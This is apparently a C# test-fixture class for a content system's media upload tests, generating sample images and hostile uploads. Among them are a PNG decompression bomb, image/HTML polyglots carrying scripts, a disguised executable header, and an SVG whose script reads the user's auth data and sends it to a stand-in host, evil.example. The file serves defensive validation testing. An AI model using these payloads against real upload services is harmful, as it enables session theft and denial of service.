using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using NetVips;

namespace TraumaBondCms.Web.Tests.Media;

/// <summary>
/// Files for the media tests, made here with libvips and by hand: a photo with GPS coordinates, XMP and IPTC in it, each
/// accepted format, and the hostile ones (a decompression bomb, polyglots, a renamed executable, an SVG with a script).
/// </summary>
public static class TestImages
{
    /// <summary>The latitude written into the GPS test photo: 51 deg 30 min 26 sec (an address, in a real photo).</summary>
    public static readonly byte[] GpsLatitudeRationals = Rationals((51, 1), (30, 1), (26, 1));

    /// <summary>A gradient image <paramref name="width"/> x <paramref name="height"/> (three bands, sRGB), distinct per <paramref name="seed"/>.</summary>
    public static Image Picture(int width, int height, int seed = 0)
    {
        using var x = Image.Xyz(width, height);
        using var r = x[0] * (255.0 / width);
        using var g = x[1] * (255.0 / height);
        using var b = (x[0] + x[1] + seed * 37) % 256;
        using var joined = r.Bandjoin(g, b);
        return joined.Cast(Enums.BandFormat.Uchar).Copy(interpretation: Enums.Interpretation.Srgb);
    }

    /// <summary>A JPEG of <see cref="Picture"/>.</summary>
    public static byte[] Jpeg(int width = 640, int height = 480, int seed = 0)
    {
        using var picture = Picture(width, height, seed);
        return picture.WriteToBuffer(".jpg");
    }

    /// <summary>An image in the format of <paramref name="suffix"/> (".png", ".webp", ".avif", ".gif").</summary>
    public static byte[] Encoded(string suffix, int width = 320, int height = 200, int seed = 0)
    {
        using var picture = Picture(width, height, seed);
        return picture.WriteToBuffer(suffix);
    }

    /// <summary>An animated GIF of two frames (the first red-ish, the second different), 80 x 60.</summary>
    public static byte[] AnimatedGif()
    {
        using var first = Picture(80, 60, 1);
        using var second = Picture(80, 60, 5);
        using var strip = first.Join(second, Enums.Direction.Vertical);
        using var animated = strip.Mutate(m => m.Set(GValue.GIntType, "page-height", 60));
        return animated.WriteToBuffer(".gif");
    }

    /// <summary>
    /// A 60 x 40 JPEG photo with EXIF orientation 6 (shown rotated 90 degrees: 40 wide, 60 high), GPS coordinates, an XMP
    /// packet with the place and an IPTC block with the photographer's city: everything a survivor's photo must not leak.
    /// </summary>
    public static byte[] JpegWithGps()
    {
        var plain = Jpeg(60, 40, 3);
        var exif = ExifWithGps();
        var xmp = Encoding.ASCII.GetBytes("http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><exif:GPSLatitude>51,30.4N</exif:GPSLatitude><photoshop:City>Leeds</photoshop:City></x:xmpmeta>");
        var iptc = Encoding.ASCII.GetBytes("Photoshop 3.0\08BIM\x04\x04\0\0\0\0\0\x0b\x1c\x02\x5a\0\x05Leeds\0");
        using var output = new MemoryStream();
        output.Write(plain, 0, 2);
        WriteSegment(output, 0xE1, exif);
        WriteSegment(output, 0xE1, xmp);
        WriteSegment(output, 0xED, iptc);
        output.Write(plain, 2, plain.Length - 2);
        return output.ToArray();
    }

    /// <summary>A PNG whose header declares 100,000 x 100,000 pixels (ten billion) in a file of a few hundred bytes.</summary>
    public static byte[] DecompressionBomb()
    {
        using var output = new MemoryStream();
        output.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(header, 100_000);
        BinaryPrimitives.WriteUInt32BigEndian(header.AsSpan(4), 100_000);
        header[8] = 8;
        WriteChunk(output, "IHDR", header);
        using var zeros = new MemoryStream();
        using (var deflate = new ZLibStream(zeros, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            deflate.Write(new byte[1_000_000]);
        }

        WriteChunk(output, "IDAT", zeros.ToArray());
        WriteChunk(output, "IEND", []);
        return output.ToArray();
    }

    /// <summary>A JPEG with a ZIP archive appended: a valid image and a valid archive at once.</summary>
    public static byte[] JpegZipPolyglot()
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = new StreamWriter(archive.CreateEntry("payload.html").Open());
            entry.Write("<html><script>alert(document.cookie)</script></html>");
        }

        return [.. Jpeg(120, 80), .. zip.ToArray()];
    }

    /// <summary>A GIF whose comment extension carries HTML with a script: an image that is also a web page.</summary>
    public static byte[] GifHtmlPolyglot()
    {
        var gif = Encoded(".gif", 40, 30);
        var comment = Encoding.ASCII.GetBytes("<html><script>alert(1)</script>");
        using var output = new MemoryStream();
        output.Write(gif, 0, gif.Length - 1);
        output.Write([0x21, 0xFE, (byte)comment.Length]);
        output.Write(comment);
        output.Write([0x00, 0x3B]);
        return output.ToArray();
    }

    /// <summary>A Windows executable's first bytes (MZ header and PE signature), as it would be renamed to photo.jpg.</summary>
    public static byte[] Executable()
    {
        var bytes = new byte[1024];
        bytes[0] = (byte)'M';
        bytes[1] = (byte)'Z';
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(0x3C), 0x80);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    /// <summary>An SVG drawing with a script in it.</summary>
    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>fetch('/api/auth/me').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script><rect width=\"10\" height=\"10\"/></svg>");

    /// <summary>A one-page PDF with no active content.</summary>
    public static byte[] Pdf(string? extra = null) => new PdfBuilder("1.4")
        .Object(1, "<< /Type /Catalog /Pages 2 0 R " + extra + ">>")
        .Object(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        .Object(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
        .Revision("/Root 1 0 R")
        .ToArray();

    /// <summary>A file of <paramref name="length"/> bytes that starts like a JPEG.</summary>
    public static byte[] Oversize(int length)
    {
        var bytes = new byte[length];
        new Random(7).NextBytes(bytes);
        bytes[0] = 0xFF;
        bytes[1] = 0xD8;
        bytes[2] = 0xFF;
        return bytes;
    }

    private static byte[] ExifWithGps()
    {
        // TIFF, little-endian: IFD0 {Orientation = 6, GPS IFD pointer}, GPS IFD {LatitudeRef N, Latitude, LongitudeRef W, Longitude}.
        using var tiff = new MemoryStream();
        using var w = new BinaryWriter(tiff);
        w.Write("II"u8);
        w.Write((ushort)42);
        w.Write(8u);
        w.Write((ushort)2);
        WriteEntry(w, 0x0112, 3, 1, 6);
        WriteEntry(w, 0x8825, 4, 1, 38);
        w.Write(0u);
        // GPS IFD at 38: 4 entries (2 + 48 + 4 bytes), then the two rational triples at 92 and 116.
        w.Write((ushort)4);
        WriteEntry(w, 0x0001, 2, 2, 'N');
        WriteEntry(w, 0x0002, 5, 3, 92);
        WriteEntry(w, 0x0003, 2, 2, 'W');
        WriteEntry(w, 0x0004, 5, 3, 116);
        w.Write(0u);
        w.Write(GpsLatitudeRationals);
        w.Write(Rationals((1, 1), (32, 1), (47, 1)));
        return [.. "Exif\0\0"u8.ToArray(), .. tiff.ToArray()];
    }

    private static void WriteEntry(BinaryWriter w, ushort tag, ushort type, uint count, uint value)
    {
        w.Write(tag);
        w.Write(type);
        w.Write(count);
        w.Write(value);
    }

    private static byte[] Rationals(params (uint Numerator, uint Denominator)[] values)
    {
        var bytes = new byte[values.Length * 8];
        for (var i = 0; i < values.Length; i++)
        {
            BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(i * 8), values[i].Numerator);
            BinaryPrimitives.WriteUInt32LittleEndian(bytes.AsSpan(i * 8 + 4), values[i].Denominator);
        }

        return bytes;
    }

    private static void WriteSegment(Stream output, byte marker, byte[] payload)
    {
        output.Write([0xFF, marker, (byte)((payload.Length + 2) >> 8), (byte)((payload.Length + 2) & 0xFF)]);
        output.Write(payload);
    }

    private static void WriteChunk(Stream output, string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(length, (uint)data.Length);
        output.Write(length);
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        output.Write(typed);
        var crc = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, System.IO.Hashing.Crc32.HashToUInt32(typed));
        output.Write(crc);
    }
}
